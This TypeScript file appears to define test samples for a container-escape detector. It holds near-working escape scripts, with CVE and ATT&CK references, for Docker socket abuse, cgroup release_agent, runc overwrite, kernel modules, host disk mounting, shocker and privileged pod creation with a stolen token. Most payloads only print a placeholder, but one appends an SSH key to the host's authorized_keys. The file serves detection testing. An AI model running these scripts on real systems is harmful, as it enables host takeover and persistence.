import { program } from './program.ts';
import { ofFamily } from './sample.ts';

/* What would be run on the host only prints, in every sample. */
export const samples = ofFamily('escape', [
  {
    id: 'escape-docker-socket',
    level: 'easy',
    technique:
      'A privileged container with the root of the host, through the socket (TeamTNT; T1611, T1610).',
    files: {
      'start.sh': `#!/bin/sh
curl -s --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' -X POST http://localhost/containers/create \\
  -d '{"Image":"alpine","Cmd":["chroot","/host","echo","stand-in"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}'
`,
    },
    config: { Cmd: ['/start.sh'] },
    expect: 'malicious',
    where: 'start.sh',
  },
  {
    id: 'escape-release-agent',
    level: 'easy',
    technique:
      'The release agent of a control group runs on the host (Felix Wilhelm 2019, CVE-2022-0492; T1611).',
    files: {
      'opt/x.sh': `#!/bin/sh
mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && mkdir /tmp/cgrp/x
echo 1 > /tmp/cgrp/x/notify_on_release
host_path=$(sed -n 's/.*\\perdir=\\([^,]*\\).*/\\1/p' /etc/mtab)
echo "$host_path/cmd" > /tmp/cgrp/release_agent
printf '#!/bin/sh\\necho stand-in\\n' > /cmd; chmod a+x /cmd
sh -c "echo \\$\\$ > /tmp/cgrp/x/cgroup.procs"
`,
    },
    expect: 'malicious',
    where: 'opt/x.sh',
  },
  {
    id: 'escape-core-pattern',
    level: 'ordinary',
    technique: 'The kernel runs a program of the container for a core dump (T1611).',
    files: {
      'srv/c.py': `import os, re
root = re.search("upperdir=([^,]+)", open("/proc/mounts").read()).group(1)
with open("/proc/sys/kernel/" + "core_pattern", "w") as f:
    f.write("|" + root + "/handler %P")
os.abort()
`,
    },
    expect: 'malicious',
    where: 'srv/c.py',
  },
  {
    id: 'escape-nsenter',
    level: 'easy',
    technique: 'The namespaces of process 1 of the host are entered (T1611).',
    files: {
      'run.sh': '#!/bin/sh\nnsenter --target 1 --mount --uts --ipc --net --pid -- sh -c "echo stand-in"\n',
    },
    config: { Cmd: ['/run.sh'] },
    expect: 'malicious',
    where: 'run.sh',
  },
  {
    id: 'escape-runc-fd',
    level: 'hard',
    technique:
      'runc leaks a descriptor of the host: the working directory of the image goes through it (CVE-2024-21626).',
    files: { readme: 'nothing\n' },
    config: { WorkingDir: '/proc/self/fd/8', Cmd: ['sh', '-c', 'cat ../../../../etc/hostname'] },
    expect: 'malicious',
    where: 'config',
  },
  {
    id: 'escape-runc-overwrite',
    level: 'ordinary',
    technique: 'The entry point is runc itself, which is then overwritten (CVE-2019-5736).',
    files: {
      'bin/bash': '#!/proc/self/exe\n',
      'src/overwrite.go': `package main
import ("fmt"; "os"; "strconv"; "io/ioutil"; "strings")
func main() {
	for found := 0; found == 0; {
		pids, _ := ioutil.ReadDir("/proc")
		for _, f := range pids {
			b, _ := ioutil.ReadFile("/proc/" + f.Name() + "/cmdline")
			if strings.Contains(string(b), "runc") { found, _ = strconv.Atoi(f.Name()) }
		}
	}
	h, _ := os.OpenFile("/proc/"+"self/fd/3", os.O_WRONLY|os.O_TRUNC, 0700)
	fmt.Fprintln(h, "stand-in")
}
`,
    },
    config: { Entrypoint: ['/bin/bash'] },
    expect: 'malicious',
    where: 'bin/bash',
  },
  {
    id: 'escape-kernel-module',
    level: 'ordinary',
    technique:
      'A module is built for the kernel of the host and loaded, which calls user mode (T1611, T1547.006).',
    files: {
      'mod/reverse.c': `#include <linux/kmod.h>
#include <linux/module.h>
char *argv[] = {"/bin/bash","-c","echo stand-in", NULL};
static char *envp[] = {"PATH=/usr/sbin:/usr/bin:/sbin:/bin", NULL};
static int __init up(void) { return call_usermodehelper(argv[0], argv, envp, UMH_WAIT_EXEC); }
module_init(up);
`,
      'mod/run.sh':
        '#!/bin/sh\nmake -C /lib/modules/$(uname -r)/build M=/mod modules && insmod /mod/reverse.ko\n',
    },
    config: { Cmd: ['/mod/run.sh'] },
    expect: 'malicious',
    where: 'mod/reverse.c',
  },
  {
    id: 'escape-tool-kit',
    level: 'easy',
    technique: 'A tool kit for containers, under its own strings (cdk, deepce, peirates; T1611).',
    files: {
      'tmp/cdk': program([
        'CDK (Container DucK)',
        'cdk evaluate [--full]',
        'mount-cgroup',
        'shim-pwn',
        'docker-sock-pwn',
        'k8s-backdoor-daemonset',
        'escaping with mount device to container',
      ]),
    },
    expect: 'malicious',
    where: 'tmp/cdk',
  },
  {
    id: 'escape-disk-device',
    level: 'ordinary',
    technique: 'The disk of the host by its device node, made with mknod (T1611).',
    files: {
      'init.sh': `#!/bin/bash
d=$(lsblk -rno NAME,TYPE | awk '$2=="part"{print $1; exit}')
IFS=: read M m < /sys/class/block/$d/dev
mknod /dev/.h b $M $m && mkdir -p /mnt/h && mount /dev/.h /mnt/h
echo '* * * * * root echo stand-in' >> /mnt/h/etc/crontab
`,
    },
    config: { Cmd: ['/init.sh'] },
    expect: 'malicious',
    where: 'init.sh',
  },
  {
    id: 'escape-proc-root',
    level: 'ordinary',
    technique: 'With the process ids of the host: its files are under /proc/1/root (T1611).',
    files: {
      'app/job.rb': `k = File.read('/root/.ssh/id_ed25519.pub')
File.open('/proc/1/root/root/.ssh/authorized_keys', 'a') { |f| f.puts k }
`,
    },
    expect: 'malicious',
    where: 'app/job.rb',
  },
  {
    id: 'escape-dac-read-search',
    level: 'hard',
    technique: 'Files of the host by handle (shocker, 2014; CAP_DAC_READ_SEARCH).',
    files: {
      'src/s.c': `#define _GNU_SOURCE
#include <fcntl.h>
struct my_file_handle { unsigned int handle_bytes; int handle_type; unsigned char f_handle[8]; };
int main(void) {
  struct my_file_handle root_h = { .handle_bytes = 8, .handle_type = 1, .f_handle = {0x02, 0, 0, 0, 0, 0, 0, 0} };
  int fd1 = open("/etc/hostname", O_RDONLY);
  return open_by_handle_at(fd1, (struct file_handle *)&root_h, O_RDONLY);
}
`,
    },
    expect: 'malicious',
    where: 'src/s.c',
  },
  {
    id: 'escape-kubelet',
    level: 'ordinary',
    technique:
      'A pod with the root of the node by the token of the service account (Hildegard, Unit 42 2021; T1610).',
    files: {
      'app/k.sh': `#!/bin/sh
T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
curl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/namespaces/kube-system/pods -X POST -d @- <<E
{"kind":"Pod","spec":{"hostPID":true,"containers":[{"securityContext":{"privileged":true},"volumeMounts":[{"name":"r","mountPath":"/host"}]}],"volumes":[{"name":"r","hostPath":{"path":"/"}}]}}
E
`,
    },
    expect: 'malicious',
    where: 'app/k.sh',
  },
]);
